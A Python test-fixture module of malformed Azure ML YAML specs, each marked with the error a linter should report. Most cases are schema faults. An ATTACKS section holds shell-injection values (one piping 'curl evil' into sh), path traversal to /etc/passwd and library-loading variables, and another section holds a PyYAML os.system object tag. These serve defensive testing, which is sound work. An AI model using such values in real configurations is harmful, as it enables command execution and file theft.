"""Specs that must be refused or warned of, each with what is expected on which line.

`# error: CODE` and `# warning: CODE` at the end of a line say what `ml check` must find there and
nowhere else. A case begins with the lines of its kind (below), so that it shows only its fault.
"""

from __future__ import annotations

import textwrap

COMMAND = "command: echo hello\nenvironment: azureml:e:1\n"
SWEEP = """\
type: sweep
trial: {command: "train ${{search_space.rate}}", environment: azureml:e:1}
objective: {goal: maximize, primary_metric: gain}
"""
SPACE = "search_space: {rate: {type: uniform, min_value: 0, max_value: 1}}\n"
LIMITS = "limits: {max_total_trials: 4, max_concurrent_trials: 2}\n"
PIPELINE = """\
type: pipeline
compute: azureml:c
inputs:
  faq: {type: uri_folder, path: data}
jobs:
  prepare:
    command: prepare ${{inputs.faq}} ${{outputs.prepared}}
    environment: azureml:e:1
    inputs: {faq: "${{parent.inputs.faq}}"}
    outputs: {prepared: {type: uri_folder}}
"""
AUTOML = """\
type: automl
task: regression
primary_metric: r2_score
training_data: {type: mltable, path: data}
compute: azureml:c
"""
COMPONENT = "type: command\nname: c\nversion: '1'\nenvironment: azureml:e:1\n"
DEPLOYMENT = """\
$schema: https://azuremlschemas.azureedge.net/latest/managedOnlineDeployment.schema.json
name: blue
endpoint_name: faq
model: azureml:m:1
instance_type: Standard_DS3_v2
code_configuration: {code: src, scoring_script: file.txt}
"""
BATCH = """\
$schema: https://azuremlschemas.azureedge.net/latest/batchDeployment.schema.json
name: one
endpoint_name: words
model: azureml:m:1
code_configuration: {code: src, scoring_script: file.txt}
"""

# What the SDK refuses, in our words.
LOADING = {
    "unknown-field": COMMAND + "enviroment: azureml:e:1  # error: unknown-field\n",
    "misspelt-environment": "command: echo\nenviroment: azureml:e:1  # error: unknown-field\n",
    "unknown-field-in-flow": COMMAND + "resources: {instance_cout: 2}  # error: unknown-field\n",
    "unknown-field-of-input": COMMAND
    + "inputs:\n  faq:\n    type: uri_folder\n    pth: data  # error: unknown-field\n",
    "unknown-field-of-step": PIPELINE
    + "  train:\n    command: train\n    environmen: azureml:e:1  # error: unknown-field\n",
    "missing-field": "$schema: https://azuremlschemas.azureedge.net/latest/commandJob.schema.json"
    "  # error: missing-field\ncommand: echo\n",
    "missing-command": "type: command  # error: missing-field\nenvironment: azureml:e:1\n",
    "missing-field-of-search-space": SWEEP
    + "search_space:\n  rate: {type: uniform, min_value: 0}  # error: missing-field\n"
    + LIMITS,
    "unknown-field-of-typed-step": PIPELINE
    + "  train:\n    type: command\n    command: train\n"
    + "    enviroment: azureml:e:1  # error: unknown-field\n",
    "component-field-of-step": PIPELINE
    + "  train:\n    type: command\n    command: train\n    environment: azureml:e:1\n"
    + "    is_deterministic: false  # error: unknown-field\n",
    "wrong-type": COMMAND + "resources:\n  instance_count: two  # error: wrong-type\n",
    "wrong-type-of-command": "command: [echo, hello]  # error: wrong-type\n"
    "type: command\nenvironment: azureml:e:1\n",
    "wrong-type-of-inputs": COMMAND + "inputs: [faq]  # error: wrong-type\n",
    "wrong-type-of-tag": COMMAND + "tags:\n  version: 1  # error: wrong-type\n",
    "wrong-type-of-timeout": COMMAND + "limits: {timeout: soon}  # error: wrong-type\n",
    "unit-of-timeout": COMMAND + "limits: {timeout: 30min}  # error: wrong-type\n",
    "hours-of-timeout": COMMAND + "limits: {timeout: 2 h}  # error: wrong-type\n",
    "wrong-type-of-compute": COMMAND + "compute: 3  # error: wrong-type\n",
    "bad-type-of-input": COMMAND
    + "inputs:\n  faq:\n    type: uri_foldr  # error: bad-value\n    path: data\n",
    "value-as-input-of-job": COMMAND
    + "inputs:\n  rate: {type: number, optional: true}  # error: bad-value\n",
    "bad-mode-of-input": COMMAND
    + "inputs:\n  faq: {type: uri_folder, path: data, mode: ro_mont}  # error: bad-value\n",
    "bad-distribution": COMMAND + "distribution: {type: pytorhc}  # error: bad-value\n",
    "bad-distribution-of-search-space": SWEEP
    + "search_space:\n  rate: {type: unifrm, min_value: 0, max_value: 1}  # error: bad-value\n"
    + LIMITS,
    "bad-goal": SWEEP.replace(
        "maximize, primary_metric: gain}", "maximise, primary_metric: x}"
    ).replace("x}", "x}  # error: bad-value")
    + SPACE
    + LIMITS,
    "boolean-choice": SWEEP
    + LIMITS
    + "search_space:\n  rate:\n    type: choice\n    values: [1, true]  # error: wrong-type\n",
    "bad-algorithm": SWEEP + SPACE + LIMITS + "sampling_algorithm: randm  # error: bad-value\n",
    "bad-job-type": "type: comand  # error: bad-value\ncommand: echo\nenvironment: azureml:e:1\n",
    "bad-task": "type: automl\ntask: clasification  # error: bad-value\nprimary_metric: accuracy\n",
    "bad-step-type": PIPELINE
    + "  train:\n    type: comand  # error: bad-value\n    command: train\n",
    "environment-without-prefix": "command: echo\nenvironment: e:1  # error: bad-reference\n",
    "missing-code": COMMAND + "code: nowhere  # error: missing-file\n",
    "missing-component": PIPELINE + "  train: {component: nowhere.yml}  # error: missing-file\n",
    "missing-job-of-schedule": "name: s\ncreate_job: nowhere.yml  # error: missing-file\n"
    "trigger: {type: cron, expression: 0 * * * *}\n",
    "bad-version-of-data": "type: uri_folder\nname: d\npath: data\n"
    "version: [1]  # error: wrong-type\n",
    "unknown-field-of-deployment": DEPLOYMENT
    + "instance_count: 1\ninstanc_type: x  # error: unknown-field\n",
    **{
        f"batch-deployment-type-{number}": BATCH.partition("code_")[0]
        + f"type: {written}  # error: bad-value\n"
        for number, written in enumerate(("[model]", "{name: model}"))
    },
    "batch-deployment-type-by-shape": "name: one\nendpoint_name: words\n"
    "type: [pipeline]  # error: bad-value\ncomponent: azureml:c:1\n",
    "import-type": "$schema: http://azureml/sdk-2-0/DataImport.json\nname: i\npath: azureml:p\n"
    "type: mltabel  # error: invalid-field\n"
    "source: {type: database, query: select 1, connection: azureml:c}\n",
    "datastore-type": "$schema: http://azureml/sdk-2-0/OneLakeDatastore.json\nname: d\n"
    "type: onelake  # error: bad-value\n",
    "datastore-with-a-url": "name: d\ntype: azure_file\naccount_name: a\nfile_share_name: f\n"
    "url: https://a.file.core.windows.net/f  # error: unknown-field\n",
    "datastore-without-loader": "name: d\ntype: hdfs  # error: bad-value\nname_node_address: h:1\n",
    "package-server": "$schema: http://azureml/sdk-2-0/ModelVersionPackage.json\n"
    "target_environment: e\ninferencing_server:\n  type: azureml_onlin  # error: bad-value\n",
    "misspelt-registry": "name: shared\nlocation: westeurope\n"
    "replication_location: [{location: westeurope}]  # error: unknown-field\n",
    "misspelt-connection": "name: c\ntype: azure_open_ai\n"
    "azure_endpont: https://x.openai.azure.com/  # error: unknown-field\n",
    "secret-in-a-connection": "name: c\ntype: git\ntarget: https://example.org/r\n"
    "credentials:\n  type: pat\n  pat: ghp_" + "aB3d" * 9 + "  # error: plaintext-secret\n",
}

MESSAGES = {
    "start-time": "name: s\ncreate_job: azureml:j\ntrigger: {type: cron, expression: 0 * * * *,\n"
    "  start_time: 10/07/2022 10:00}  # error: wrong-type\n",
    "name-of-a-step": "type: pipeline\ncompute: azureml:c\njobs:\n"
    "  A-step 1:  # error: invalid-field\n    command: echo\n    environment: azureml:e:1\n",
    "default-of-another-type": COMPONENT + "command: echo ${{inputs.n}}\ninputs:\n"
    "  n: {type: integer, default: five}  # error: port-range\n",
    "size-of-a-mini-batch": "name: q\nversion: '1'\ntype: parallel\n"
    "inputs: {rows: {type: uri_folder}}\noutputs: {scored: {type: uri_file}}\n"
    "input_data: ${{inputs.rows}}\nmini_batch_size: 1 gb  # error: bad-value\n"
    "task: {type: run_function, code: src, entry_script: file.txt, environment: azureml:e:1}\n",
    "environment-that-is-a-number": "$schema: https://azuremlschemas.azureedge.net/latest/"
    "commandJob.schema.json\ncommand: echo\nenvironment: 5  # error: wrong-type\n",
    "model-that-is-a-list": DEPLOYMENT.replace(
        "model: azureml:m:1", "model: [azureml:m:1]  # error: loader-failed"
    ),
    "key-that-is-a-number": COMMAND + "tags: {1: x}  # error: wrong-type\n",
}

# What PyYAML lets through.
YAML = {
    "duplicate-key": COMMAND + "compute: azureml:a\ncompute: azureml:b  # error: duplicate-key\n",
    "duplicate-key-inside": COMMAND
    + "inputs:\n  rate: 1\n  other: 2\n  rate: 3  # error: duplicate-key\n",
    "duplicate-key-in-flow": COMMAND + "tags: {a: x, a: y}  # error: duplicate-key\n",
    "duplicate-key-quoted": COMMAND + 'tags: {a: x, "a": y}  # error: duplicate-key\n',
    "nul": COMMAND + 'display_name: "a\\0b"  # error: nul-character\n',
    "tab": COMMAND + "tags:\n\ta: b  # error: unreadable-yaml\n",
    "unclosed": COMMAND + "tags: {a: b\ncompute: c  # error: unreadable-yaml\n",
    "python-object": COMMAND + "tags: !!python/object:os.system {}  # error: unreadable-yaml\n",
    "recursive-alias": COMMAND + "tags: &a {again: *a}  # error: recursive-alias\n",
}

EXPRESSIONS = {
    "unbound-input": "environment: azureml:e:1\n"
    "command: echo ${{inputs.zzz}}  # error: unbound-expression\n",
    "unbound-input-of-some": "environment: azureml:e:1\ninputs: {learning_rate: 1}\n"
    "command: echo ${{inputs.learnin_rate}}  # error: unbound-expression\n",
    "unbound-output": "environment: azureml:e:1\noutputs: {model: {type: custom_model}}\n"
    "command: echo ${{outputs.modle}}  # error: unbound-expression\n",
    "unbound-in-variable": COMMAND
    + "environment_variables:\n  RATE: ${{inputs.rate}}  # error: unbound-expression\n",
    "unbound-search-space": "type: sweep\n"
    "objective: {goal: maximize, primary_metric: gain}\n"
    "trial:\n  environment: azureml:e:1\n"
    "  command: train ${{search_space.rate}} ${{search_space.rat}}  # error: unbound-expression\n"
    + SPACE
    + LIMITS,
    "search-space-without-sweep": "environment: azureml:e:1\n"
    "command: train ${{search_space.rate}}  # error: unbound-expression\n",
    "unbound-in-step": PIPELINE + "  train:\n    environment: azureml:e:1\n"
    "    command: train ${{inputs.nope}}  # error: unbound-expression\n",
    "unbound-in-component": COMPONENT
    + "inputs: {rate: {type: number}}\n"
    + "command: train ${{inputs.rat}}  # error: unbound-expression\n",
    "unknown-expression": "environment: azureml:e:1\n"
    "command: echo ${{job.name}}  # warning: unknown-expression\n",
    "unclosed-expression": "environment: azureml:e:1\n"
    'command: "echo ${{inputs.rate"  # warning: unknown-expression\ninputs: {rate: 1}\n',
    "optional-without-brackets": COMPONENT
    + "inputs: {rate: {type: number, optional: true}}\n"
    + "command: train ${{inputs.rate}}  # error: optional-without-brackets\n",
    "optional-with-a-default": COMPONENT
    + "inputs: {rate: {type: number, optional: true, default: 1}}\n"
    + "command: train ${{inputs.rate}}  # warning: optional-without-brackets\n",
    "optional-beside-brackets": COMPONENT
    + "inputs: {rate: {type: number, optional: yes}}\n"
    + "command:  # error: optional-without-brackets\n"
    + "  train $[[--rate ${{inputs.rate}}]] --again ${{ inputs.rate }}\n",
    "optional-in-variable": COMPONENT
    + "command: train\ninputs: {rate: {type: number, optional: true}}\nenvironment_variables:\n"
    + "  RATE: ${{inputs.rate}}  # error: optional-without-brackets\n",
    "optional-of-inline-component": PIPELINE
    + "  a:\n    type: command\n    component:\n      type: command\n"
    "      environment: azureml:e:1\n      inputs: {rate: {type: number, optional: true}}\n"
    "      command: train ${{inputs.rate}}  # error: optional-without-brackets\n",
    "optional-of-trial-component": PIPELINE
    + "  tune:\n    type: sweep\n    trial:\n      type: command\n"
    "      command: train ${{inputs.rate}} ${{inputs.n}}  # error: optional-without-brackets\n"
    "      inputs: {n: {type: integer, optional: true}, rate: {type: number}}\n"
    "      environment: azureml:e:1\n    objective: {goal: maximize, primary_metric: gain}\n"
    "    search_space: {rate: {type: uniform, min_value: 0, max_value: 1}}\n"
    "    limits: {max_total_trials: 2}\n",
    "optional-of-parallel": "type: parallel\nname: p\nversion: 1\n"
    "inputs: {rows: {type: uri_folder}, n: {type: integer, optional: true}}\n"
    "outputs: {scored: {type: uri_file}}\ninput_data: ${{inputs.rows}}\ntask:\n"
    "  type: run_function\n  code: src\n  entry_script: file.txt\n  environment: azureml:e:1\n"
    "  program_arguments: --n ${{inputs.n}}  # error: optional-without-brackets\n",
    "brackets-that-are-not-closed": "environment: azureml:e:1\ninputs: {rate: 1}\n"
    "command: train $[[--rate ${{inputs.rate}}  # error: unknown-expression\n",
    "brackets-in-brackets": "environment: azureml:e:1\ninputs: {rate: 1}\n"
    "command: train $[[--a $[[--rate ${{inputs.rate}}]]]]  # error: unknown-expression\n",
    "empty-input": COMMAND + "inputs:\n  tag: ''  # error: empty-input\n",
    "empty-input-of-step": PIPELINE + "  train:\n    component: component.yml\n    inputs:\n"
    "      data: ${{parent.inputs.faq}}\n      rate: 0.5\n"
    '      note: ""  # error: empty-input\n',
    "blank-input-of-pipeline": "type: pipeline\ncompute: azureml:c\n"
    "inputs:\n  tag: ' '  # error: empty-input\njobs:\n"
    "  a:\n    component: component.yml\n"
    "    inputs: {data: {path: data}, rate: 1, note: '${{parent.inputs.tag}}'}\n",
    "empty-default": COMPONENT + "command: train ${{inputs.x}}\n"
    "inputs:\n  x:\n    type: string\n    default: ''  # warning: empty-input\n",
    "optional-to-a-required-input": "type: pipeline\nname: p\nversion: 1\n"
    "inputs: {rate: {type: number, optional: true}, data: {type: uri_folder}}\njobs:\n"
    "  train:\n    component: component.yml\n    inputs:\n"
    "      data: ${{parent.inputs.data}}\n"
    "      rate: ${{parent.inputs.rate}}  # error: optional-binding\n",
    "optional-to-an-inline-step": "type: pipeline\nname: p\nversion: 1\n"
    "inputs: {rate: {type: number, optional: true}}\njobs:\n"
    "  train:\n    command: echo ${{inputs.x}}\n    environment: azureml:e:1\n    inputs:\n"
    "      x: ${{parent.inputs.rate}}  # error: optional-binding\n",
}

SWEEPS = {
    "no-search-space": SWEEP.replace("${{search_space.rate}}", "")
    + LIMITS
    + "search_space: {}  # error: sweep-without-space\n",
    "grid-continuous": SWEEP
    + LIMITS
    + "sampling_algorithm: grid\n"
    + SPACE.replace("\n", "  # error: grid-continuous\n"),
    "grid-continuous-as-mapping": SWEEP
    + LIMITS
    + "sampling_algorithm: {type: grid}\nsearch_space:\n  rate:\n"
    + "    type: quniform  # error: grid-continuous\n"
    + "    min_value: 0\n    max_value: 9\n    q: 1\n",
    "bayesian-with-bandit": SWEEP
    + SPACE
    + LIMITS
    + "sampling_algorithm: bayesian\nearly_termination: "
    + "{type: bandit, slack_factor: 0.1}  # warning: bayesian-early-termination\n",
    "bayesian-with-normal": SWEEP
    + LIMITS
    + "sampling_algorithm: bayesian\nsearch_space:\n  rate:\n"
    + "    type: normal  # warning: bayesian-distribution\n    mu: 0\n    sigma: 1\n",
    "log-range": SWEEP
    + LIMITS
    + "search_space:\n  rate:  # warning: log-range\n    type: loguniform\n"
    + "    min_value: 0.001\n    max_value: 0.1\n",
    "log-range-above-one": SWEEP
    + LIMITS
    + "search_space:\n  rate:  # warning: log-range\n    type: qloguniform\n"
    + "    min_value: 8\n    max_value: 256\n    q: 1\n",
    "log-range-across-one": SWEEP
    + LIMITS
    + "search_space:\n  rate:  # warning: log-range\n    type: loguniform\n"
    + "    min_value: 0.01\n    max_value: 10\n",
    "log-range-beyond-a-float": SWEEP
    + LIMITS
    + "search_space:\n  rate:  # warning: log-range\n    type: loguniform\n"
    + "    min_value: 10\n    max_value: 1000\n",
    "bounds-swapped": SWEEP
    + LIMITS
    + "search_space:\n  rate:\n    type: uniform\n"
    + "    min_value: 1  # error: distribution-bounds\n    max_value: 0\n",
    "no-width": SWEEP
    + LIMITS
    + "search_space: {rate: {type: normal, mu: 0, sigma: 0}}  # error: distribution-bounds\n",
    "no-choice": SWEEP
    + LIMITS
    + "search_space: {rate: {type: choice, values: []}}  # error: distribution-bounds\n",
    "unused-hyperparameter": SWEEP
    + LIMITS
    + "search_space:\n  rate: {type: uniform, min_value: 0, max_value: 1}\n"
    + "  depth: {type: choice, values: [1, 2]}  # warning: unused-search-space\n",
    "bandit-without-slack": SWEEP
    + SPACE
    + LIMITS
    + "early_termination: {type: bandit, evaluation_interval: 1}  # error: bandit-without-slack\n",
    "truncation-of-everything": SWEEP
    + SPACE
    + LIMITS
    + "early_termination:\n  type: truncation_selection\n"
    + "  truncation_percentage: 100  # error: truncation-percentage\n",
    "truncation-of-nothing": SWEEP
    + SPACE
    + LIMITS
    + "early_termination:\n  type: truncation_selection\n"
    + "  truncation_percentage: 0  # error: truncation-percentage\n",
    "more-at-once-than-in-all": SWEEP
    + SPACE
    + "limits:\n  max_total_trials: 4\n  max_concurrent_trials: 8  # error: trial-limits\n",
    "too-many-trials": SWEEP + SPACE + "limits:\n  max_total_trials: 1001  # error: trial-limits\n",
    "no-trials": SWEEP + SPACE + "limits:\n  max_total_trials: 0  # error: trial-limits\n",
    "short-timeout": SWEEP
    + SPACE
    + "limits:\n  max_total_trials: 4\n  trial_timeout: 30  # warning: short-timeout\n",
    "sweep-step": PIPELINE
    + "  tune:\n    type: sweep\n    trial: component.yml\n"
    + "    inputs: {data: '${{parent.jobs.prepare.outputs.prepared}}'}\n"
    + "    objective: {goal: maximize, primary_metric: gain}\n"
    + "    search_space: {rate: {type: uniform, min_value: 0, max_value: 1}}\n"
    + "    limits: {max_total_trials: 2, max_concurrent_trials: 3}  # error: trial-limits\n",
}

NUMBERS = {
    "negative-instances": COMMAND
    + "resources: {instance_count: -1}  # error: number-out-of-range\n",
    "no-instances": COMMAND + "resources:\n  instance_count: 0  # error: number-out-of-range\n",
    "negative-processes": COMMAND
    + "distribution:\n  type: pytorch\n"
    + "  process_count_per_instance: -2  # error: number-out-of-range\n",
    "port-of-service": COMMAND
    + "services:\n  nb:\n    type: jupyter_lab\n    port: 99999  # error: number-out-of-range\n",
    "negative-timeout": COMMAND + "limits:\n  timeout: -5  # error: number-out-of-range\n",
    "negative-interval": SWEEP
    + SPACE
    + LIMITS
    + "early_termination:\n  type: median_stopping\n"
    + "  evaluation_interval: -1  # error: number-out-of-range\n",
    "timeout-of-deployment": DEPLOYMENT
    + "environment_variables:\n  SCORING_TIMEOUT_MS: '180001'  # error: deployment-variable\n",
    **{
        f"number-of-deployment-{number}": DEPLOYMENT + f"{written}  # error: number-out-of-range\n"
        for number, written in enumerate(
            [
                *("request_settings: {request_timeout_ms: 180001}", "instance_count: 1.5"),
                *("request_settings: {request_timeout_ms: '600000'}", "instance_count: '0'"),
                "request_settings: {request_timeout_ms: 0}",
                "request_settings: {max_concurrent_requests_per_instance: 0}",
                "liveness_probe: {success_threshold: 2}",
                *("liveness_probe: {initial_delay: 0}", "readiness_probe: {timeout: 0}"),
                "readiness_probe: {period: 1.5}",
                "data_collector: {collections: {a: {enabled: 'true'}}, sampling_rate: 1.5}",
            ]
        )
    },
    "timeout-of-kubernetes": DEPLOYMENT.replace("managed", "kubernetes")
    + "request_settings: {request_timeout_ms: 300001}  # error: number-out-of-range\n",
    "timeout-of-batch": BATCH + "retry_settings: {timeout: 259201}  # error: number-out-of-range\n",
    "timeout-of-batch-settings": BATCH
    + "type: model\nsettings:\n  retry_settings: {timeout: 0}  # error: number-out-of-range\n",
    "mini-batch-of-batch": BATCH + "mini_batch_size: 1.5  # error: number-out-of-range\n",
    "timeout-with-a-fraction": COMMAND + "limits: {timeout: 1.5}  # error: number-out-of-range\n",
    "trials-with-a-fraction": SWEEP
    + SPACE
    + "limits: {max_total_trials: 4.5}  # error: number-out-of-range\n",
    **{
        f"automl-limit-{name}": AUTOML
        + f"target_column_name: price\nlimits: {{{name}}}  # error: number-out-of-range\n"
        for name in (
            *("timeout_minutes: 1.5", "trial_timeout_minutes: 0.5", "max_trials: 2.5"),
            *("max_concurrent_trials: 1.5", "max_cores_per_trial: 1.1", "timeout_minutes: '0'"),
        )
    },
    **{
        f"automl-{count}-folds": AUTOML
        + f"target_column_name: a\nn_cross_validations: {count}  # error: number-out-of-range\n"
        for count in (-1, 0, 1)
    },
    "automl-folds": AUTOML
    + "target_column_name: price\nn_cross_validations: 2.5  # error: number-out-of-range\n",
    "negative-in-deployment": DEPLOYMENT + "instance_count: -1  # error: number-out-of-range\n",
}

PIPELINES = {
    "older-binding": PIPELINE + "  use:\n    command: ls ${{inputs.x}}\n"
    "    environment: azureml:e:1\n"
    "    inputs: {x: '${{jobs.prepare.outputs.prepared}}'}  # warning: unknown-parent\n",
    "empty-pipeline": "type: pipeline\ncompute: azureml:c\njobs: {}  # warning: empty-pipeline\n",
    "mltable-without-its-file": COMMAND
    + "inputs:\n  x:\n    type: mltable\n    path: src  # error: bad-mltable\n",
    "conda-file-without-a-list": "command: echo\nenvironment:\n  image: i:1\n  conda_file:\n"
    "    dependencies: numpy  # error: bad-conda-file\n",
    "conda-file-that-is-not-there": "command: echo\nenvironment:\n  image: i:1\n"
    "  conda_file: none.yml  # error: missing-file\n",
    "unknown-step": PIPELINE
    + "  train:\n    environment: azureml:e:1\n    command: cat ${{inputs.x}}\n"
    "    inputs:\n      x: ${{parent.jobs.prepar.outputs.prepared}}  # error: unknown-step\n",
    "unknown-output": PIPELINE + "  train:\n    environment: azureml:e:1\n"
    "    command: cat ${{inputs.x}}\n    inputs:\n"
    "      x: ${{parent.jobs.prepare.outputs.prepard}}  # error: unknown-output\n",
    "unknown-output-of-component": PIPELINE + "  train:\n    component: component.yml\n"
    "    inputs: {data: '${{parent.inputs.faq}}', rate: 0.5}\n"
    "  use:\n    environment: azureml:e:1\n    command: cat ${{inputs.x}}\n    inputs:\n"
    "      x: ${{parent.jobs.train.outputs.modle}}  # error: unknown-output\n",
    "unknown-parent-input": PIPELINE + "  train:\n    environment: azureml:e:1\n"
    "    command: cat ${{inputs.x}}\n    inputs:\n"
    "      x: ${{parent.inputs.fak}}  # error: unknown-parent\n",
    "unknown-parent-output": PIPELINE + "  train:\n    environment: azureml:e:1\n"
    "    command: train ${{outputs.model}}\n    outputs:\n"
    "      model: ${{parent.outputs.model}}  # error: unknown-parent\n",
    "cycle": "type: pipeline\ncompute: azureml:c\n"
    "jobs:\n  a:  # error: pipeline-cycle\n    environment: azureml:e:1\n"
    "    command: a ${{inputs.x}} ${{outputs.y}}\n    outputs: {y: {type: uri_folder}}\n"
    "    inputs: {x: '${{parent.jobs.b.outputs.y}}'}\n  b:\n    environment: azureml:e:1\n"
    "    command: b ${{inputs.x}} ${{outputs.y}}\n    outputs: {y: {type: uri_folder}}\n"
    "    inputs: {x: '${{parent.jobs.a.outputs.y}}'}\n",
    "list-of-steps": "type: pipeline\ncompute: azureml:c\n"
    "jobs:  # error: wrong-type\n  - command: train\n",
    "empty-step": "type: pipeline\ncompute: azureml:c\njobs:\n  train:  # error: wrong-type\n",
    "empty-component": PIPELINE
    + "  train:\n    type: command\n    component: empty.part  # error: not-a-component\n",
    "unreadable-component": PIPELINE
    + "  train:\n    type: command\n    component: nul.part  # error: not-a-component\n",
    "misspelt-field-of-component-step": PIPELINE
    + "  train:\n    component: component.yml\n"
    + "    inputs: {data: '${{parent.inputs.faq}}', rate: 0.5}\n"
    + "    computer: azureml:c  # warning: misspelt-field\n",
    "component-of-itself": PIPELINE
    + "  train:\n    type: pipeline\n    component: endless.part  # error: component-cycle\n",
    "output-of-two-steps": "type: pipeline\ncompute: azureml:c\n"
    "outputs: {all: {type: uri_folder}}\njobs:\n"
    "  a:\n    command: a ${{outputs.y}}\n    environment: azureml:e:1\n"
    "    outputs: {y: '${{parent.outputs.all}}'}\n"
    "  b:\n    command: b ${{outputs.y}}\n    environment: azureml:e:1\n    outputs:\n"
    "      y: {type: uri_folder, path: '${{parent.outputs.all}}'}  # error: shared-output\n",
    "output-of-one-step-twice": "type: pipeline\ncompute: azureml:c\n"
    "outputs: {all: {type: uri_folder}}\njobs:\n"
    "  a:\n    command: a ${{outputs.x}} ${{outputs.y}}\n    environment: azureml:e:1\n"
    "    outputs:\n      x: ${{parent.outputs.all}}\n"
    "      y: ${{ parent.outputs.all }}  # error: shared-output\n",
    "missing-input": PIPELINE + "  train:\n    component: component.yml\n"
    "    inputs: {rate: 0.5}  # error: missing-input\n",
    "unknown-input": PIPELINE + "  train:\n    component: component.yml\n    inputs:\n"
    "      data: ${{parent.inputs.faq}}\n      rate: 0.5\n      rat: 1  # warning: unknown-input\n",
    "input-over-range": PIPELINE + "  train:\n    component: component.yml\n    inputs:\n"
    "      data: ${{parent.inputs.faq}}\n      rate: 1.5  # error: input-range\n",
    "input-of-wrong-type": PIPELINE + "  train:\n    component: component.yml\n    inputs:\n"
    "      data: ${{parent.inputs.faq}}\n      rate: 0.5\n"
    "      rounds: 2.5  # error: input-range\n",
    "input-no-boolean": PIPELINE + "  train:\n    component: component.yml\n    inputs:\n"
    "      data: ${{parent.inputs.faq}}\n      rate: 0.5\n"
    "      fast: quick  # error: input-range\n",
    "input-not-in-enumeration": PIPELINE + "  train:\n    component: component.yml\n    inputs:\n"
    "      data: ${{parent.inputs.faq}}\n      rate: 0.5\n"
    "      kind: grand  # error: input-range\n",
    "port-bounds-swapped": COMPONENT + "command: c ${{inputs.x}}\n"
    "inputs:\n  x:\n    type: number\n    min: 2  # error: port-range\n    max: 1\n",
    "port-default-out-of-range": COMPONENT + "command: c ${{inputs.x}}\n"
    "inputs:\n  x:\n    type: integer\n    max: 5\n    default: 9  # error: port-range\n",
}

ATTACKS = {
    "command-in-literal": "environment: azureml:e:1\ncommand: python /o/train.py ${{inputs.x}}\n"
    'inputs:\n  x: "1; curl evil|sh"  # error: shell-metacharacter\n',
    "substitution-in-double-quotes": "environment: azureml:e:1\n"
    'command: python /o/train.py "${{inputs.x}}"\n'
    "inputs:\n  x: $(reboot)  # error: shell-metacharacter\n",
    "quote-out-of-single-quotes": "environment: azureml:e:1\n"
    "command: python /o/train.py '${{inputs.x}}'\n"
    "inputs:\n  x: a' b  # error: shell-metacharacter\n",
    "newline-in-literal": "environment: azureml:e:1\ncommand: python /o/train.py ${{inputs.x}}\n"
    "inputs:\n  x: |  # error: shell-metacharacter\n    1\n    reboot\n",
    "backtick-in-literal": "environment: azureml:e:1\ncommand: python /o/train.py ${{inputs.x}}\n"
    "inputs:\n  x: '`id`'  # error: shell-metacharacter\n",
    "argument-of-bash": "environment: azureml:e:1\ncommand: bash -c 'train ${{inputs.x}}'\n"
    "inputs:\n  x: 1 & reboot  # error: shell-metacharacter\n",
    "in-here-document": "environment: azureml:e:1\n"
    "command: \"cat <<END\\n'${{inputs.x}}'\\nEND\"\n"
    "inputs:\n  x: $(id)  # error: shell-metacharacter\n",
    "choice-that-is-a-command": SWEEP
    + LIMITS
    + "search_space:\n  rate:\n    type: choice\n    values:\n      - plain\n"
    + "      - a > /etc/passwd  # error: shell-metacharacter\n",
    "literal-of-pipeline": "type: pipeline\ncompute: azureml:c\ninputs:\n"
    "  x: a; b  # error: shell-metacharacter\njobs:\n"
    "  s:\n    environment: azureml:e:1\n    command: python /o/train.py ${{inputs.y}}\n"
    "    inputs: {y: '${{parent.inputs.x}}'}\n",
    "literal-into-component": PIPELINE + "  train:\n    component: component.yml\n    inputs:\n"
    "      data: ${{parent.inputs.faq}}\n      rate: 0.5\n"
    "      note: $(id)  # error: shell-metacharacter\n",
    "output-out-of-the-folder": COMMAND
    + "outputs:\n  ../../x: {type: uri_folder}  # error: bad-name\n",
    "input-out-of-the-folder": COMMAND
    + "inputs:\n  ../../x: {type: uri_folder, path: data}  # error: bad-name\n",
    "experiment-out-of-the-folder": COMMAND + "experiment_name: ../../x  # error: bad-name\n",
    "experiment-that-is-the-folder-above": COMMAND + "experiment_name: ..  # error: bad-name\n",
    "experiment-with-an-escape": COMMAND + 'experiment_name: "a\\e[31m"  # error: bad-name\n',
    "job-with-a-path": COMMAND + "name: a/b  # error: bad-name\n",
    "variable-with-an-equals-sign": COMMAND
    + "environment_variables:\n  A=B: c  # error: bad-name\n",
    "variable-without-a-name": COMMAND + "environment_variables:\n  '': c  # error: bad-name\n",
    "deployment-with-openssl-conf": DEPLOYMENT
    + "environment_variables:\n  OPENSSL_CONF: data.txt  # error: deployment-variable\n",
    "deployment-with-a-library-for-a-number": DEPLOYMENT
    + "environment_variables:\n  OMP_NUM_THREADS: ./x.so  # error: deployment-variable\n",
    "deployment-that-mounts-its-model": DEPLOYMENT
    + "model_mount_path: /etc/ssl  # error: deployment-variable\n",
    "deployment-with-the-latest-environment": DEPLOYMENT
    + "environment: azureml:e@latest  # error: unpinned-environment\n",
    **{
        f"deployment-with-{name}": DEPLOYMENT
        + f"environment: {written}  # error: unpinned-environment\n"
        for name, written in {
            "an-environment-of-a-registry": "azureml://registries/r/environments/e/versions/1",
            "a-git-context": "{build: {path: 'https://github.com/team/x.git#main'}}",
        }.items()
    },
    "conda-file-with-variables": "command: echo\nenvironment:\n  image: i:1\n  conda_file:\n"
    "    dependencies: [numpy]\n"
    "    variables: {OPENSSL_CONF: x}  # error: bad-conda-file\n",
    "endpoint-with-a-path": "$schema: https://azuremlschemas.azureedge.net/latest/"
    "managedOnlineEndpoint.schema.json\nname: ../../x  # error: bad-name\nauth_mode: aad_token\n",
    "data-with-a-path": "type: uri_folder\nname: ../x  # error: bad-name\n"
    "version: '1'\npath: data\n",
    "registered-output-with-a-path": COMMAND
    + "outputs:\n  x:\n    type: uri_folder\n    name: x\n"
    + "    version: ../x  # error: bad-name\n",
    "path-out-of-repository": COMMAND
    + "inputs:\n  x: {type: uri_folder, path: ../outside}  # error: path-escape\n",
    "path-far-out": COMMAND
    + "inputs:\n  x:\n    path: ../../../../../../etc  # error: path-escape\n",
    "absolute-path": COMMAND + "inputs:\n  x: {path: /etc/passwd}  # error: path-escape\n",
    "file-url": COMMAND + "inputs:\n  x: {path: 'file:///etc/passwd'}  # error: path-escape\n",
    "code-out-of-repository": COMMAND + "code: ../outside  # error: path-escape\n",
    "data-out-of-repository": "type: uri_folder\nname: d\nversion: '1'\n"
    "path: ../outside  # error: path-escape\n",
    "component-out-of-repository": PIPELINE
    + "  train: {component: ../outside/secret.txt}  # error: path-escape\n",
    "secret-in-variable": COMMAND
